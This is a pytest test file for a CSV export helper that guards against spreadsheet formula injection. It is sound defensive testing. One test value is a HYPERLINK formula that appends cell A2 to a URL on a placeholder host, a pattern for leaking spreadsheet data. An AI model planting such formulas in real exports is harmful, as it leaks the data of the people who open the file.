from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest

from apps.core import csv_export


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ('=HYPERLINK("https://x.example/?"&A2,"Report")', '\'=HYPERLINK("https://x.example/?"&A2,"Report")'),
        ("+91 98765 43210", "'+91 98765 43210"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tTab", "'\tTab"),
        ("\rCR", "'\rCR"),
        ("'=x", "''=x"),  # so that reading back can tell the two apart
        ("'plain", "'plain"),
        ("O'Brien", "O'Brien"),
        ("Sam = Student", "Sam = Student"),
        ("", ""),
    ],
)  # fmt: skip
def test_neutralise_and_unescape_are_inverse(value, written):
    assert csv_export.neutralise(value) == written
    assert csv_export.unescape(written) == value


def test_non_text_cells_are_written_as_they_are():
    out = io.StringIO()
    csv_export.writer(out).writerow([-3, 2.5, None, True, "=1+1"])
    assert out.getvalue() == "-3,2.5,,True,'=1+1\r\n"
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [["-3", "2.5", "", "True", "'=1+1"]]


def test_no_export_writes_csv_around_the_one_writer():
    """A new export that builds its own `csv.writer` would skip the formula guard."""
    root = Path(__file__).resolve().parents[2]
    own = root / "core" / "csv_export.py"
    offenders = [
        str(path.relative_to(root.parent))
        for path in root.rglob("*.py")
        if path != own
        and "tests" not in path.parts
        and re.search(r"\bcsv\.(writer|DictWriter)\(", path.read_text(encoding="utf-8"))
    ]
    assert offenders == []
